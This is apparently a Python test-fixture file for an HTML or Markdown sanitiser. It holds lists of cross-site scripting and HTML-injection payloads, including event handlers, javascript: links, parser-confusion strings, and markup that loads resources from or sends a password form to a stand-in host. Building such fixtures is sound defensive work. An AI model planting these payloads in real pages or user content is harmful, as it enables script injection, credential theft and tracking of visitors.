"""Text and HTML that means harm, written for these tests. Each is a promise that it will do none."""

from collections.abc import Iterator

from tests.core.addresses import ADDRESSES

HTML = [
    # script
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<\u200bscript>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    # what runs by itself
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='//evil.example/a 1x'>",
    "<image src=x onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<p\nonmouseover\n=\nalert(1)>x</p>",
    "<p ONCLICK='alert(1)'>x</p>",
    "<a href=/x onfocus=alert(1) autofocus tabindex=0>x</a>",
    "<a href='/x' onmouseover='alert(1)' title='\"><script>alert(1)</script>'>x</a>",
    "<strong onpointerenter=alert(1)>x</strong>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<p xmlns:x=http://www.w3.org/1999/xhtml x:onclick=alert(1)>x</p>",
    # another document inside
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<frameset><frame src=//evil.example></frameset>",
    "<portal src=//evil.example></portal>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    # forms and furniture
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<textarea></textarea><select><option>x</option></select>",
    "<dialog open>You are signed out</dialog>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x></slot>",
    # names, classes and style
    "<p id=content>x</p>",
    "<a id=csrf_token name=csrf_token href=/x>x</a>",
    "<a name=body>x</a>",
    "<p class='badge badge--moderator'>Moderator</p>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><style/><script>alert(1)</script>",
    "<a href=/x target=_blank rel=opener ping=//evil.example download>x</a>",
    "<p dir=rtl lang=xx hidden contenteditable data-focus aria-hidden=true role=alert>x</p>",
    "<ol start=javascript:alert(1) reversed type=i><li value=9>x</li></ol>",
    "<ol start=-1><li>x</li></ol>",
    "<table background=//evil.example><td background=//evil.example>x</td></table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<del cite=//evil.example datetime=x>x</del>",
    # other languages inside HTML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,x'/></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # what parsers read differently
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><img src onerror=alert(1)>'>",
    "<svg><desc><noscript>&lt;/noscript&gt;&lt;img src onerror=alert(1)&gt;</desc></svg>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=a()>'>",
    "<table><a href='/x'><td><a href='/y'>x</a></td></a></table>",
    "<p><table><p>x</table>y",
    "<b><p>x</b>y</p>",
    "<a href=/x><a href=/y>x</a></a>",
    "<li><ul><li>x</ol></li>",
    # comments, sections, instructions
    "<!-- x --><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--->x<script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!-<img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version='1.0'?><p>x</p>",
    "<?php echo 1 ?>",
    "<!doctype html><p>x</p>",
    "<%x%><p>x</p>",
    # marks that do not close
    "<",
    "<a",
    "<a href",
    "<a href=",
    "<a href='",
    "<a href='/x",
    '<a href="/x"title="y"onclick=alert(1)>x',
    "<p title=`x`onclick=alert(1)>x</p>",
    "<<p>x</p>",
    "<p <script>alert(1)</script>>x</p>",
    "</p></div></main></body></html><p>x",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&amp;lt;script&amp;gt;</p>",
    "<p>&ltscript>alert(1)&lt/script></p>",
    "<p>\x02\x03 stx\x020\x03 \x02wzxhzdk:0\x03</p>",
    "<code>\x02klzzwxh:0000\x03</code>",
]


def html() -> Iterator[str]:
    """HTML as it might come out of a Markdown parser that was fooled."""
    yield from HTML
    for address in ADDRESSES:
        quoted = address.replace('"', "&quot;")
        yield f'<p><a href="{quoted}">x</a></p>'
    for address in ADDRESSES[:60]:
        yield f"<a href={address.replace(' ', '%20')}>x</a>"
        yield f"<img src=\"{address}\"><a title=x href='{address.replace(chr(39), '&#39;')}'>x</a>"


def markdown() -> Iterator[str]:
    """What somebody might type."""
    yield from HTML
    for address in ADDRESSES:
        yield f"[x]({address})"
        yield f"[x](<{address}>)"
        yield f"![x]({address})"
        yield f"<{address}>"
        yield f"[x]\n\n[x]: {address}\n"
        yield f"see {address} there"
    yield from MARKDOWN


MARKDOWN = [
    '[x](/y "onclick=alert(1)")',
    '[x](/y "\\" onclick=\\"alert(1)")',
    "[x](/y 'a\"b<c>&d')",
    '![x" onerror="alert(1)](https://example.org/x.png)',
    '![x](https://example.org/x.png "t\\" onerror=\\"alert(1)")',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[![x](https://evil.example/pixel.gif)](https://example.org)",
    "![a][p]\n\n[p]: https://evil.example/pixel.gif",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: <javascript:alert(1)> 'x'\n\n[b][a]",
    "[<script>alert(1)</script>](/x)",
    "[x](/a\\\nb)",
    "[x](javascript:alert\\(1\\))",
    "[x](java&#115;cript:alert(1))",
    "[x](\\javascript:alert(1))",
    "<javascript:alert(1)>",
    "<x@evil.example>",
    '<"onclick=alert(1)"@evil.example>',
    "<https://a@evil.example/>",
    "https://a@evil.example/",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    "http://example.org/'onclick='alert(1)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "``` {.badge #content onclick=alert(1)}\nx\n```",
    "`<script>alert(1)</script>`",
    "`` `<img src=x onerror=alert(1)>` ``",
    "    <script>alert(1)</script>",
    "# x {#content .badge onclick=alert(1)}",
    "x {: onclick=alert(1) }",
    "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "\x02klzzwxh:0000\x03 \x02amp\x03 \x0234\x03",
    "**\x02klzzwxh:0001\x03**",
    "klzzwxh:0000 wzxhzdk:0",
    "\u202eevil\u202c \u2066x\u2069",
    "&#x202e;evil &#8238; &#x2066;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\<script\\>alert(1)\\</script\\>",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))\n- x",
    "- 10:00 <script>alert(1)</script>\n- 11:00 [x](javascript:alert(1))\n- 12:00 ![x](//evil.example)",
    "- **10:00** </div></li></ul><script>alert(1)</script>\n- 11:00 x\n- 12:00 y",
    "> <iframe src=//evil.example>\n>\n> ![x](//evil.example/x.png)",
    "1. x\n\n    <svg onload=alert(1)>\n",
    "_<p onclick=alert(1)>_**</p>**",
    "[toc]\n\n[TOC]\n\n[[wiki]]",
    "<!-- x\n\n--> <script>alert(1)</script>",
]
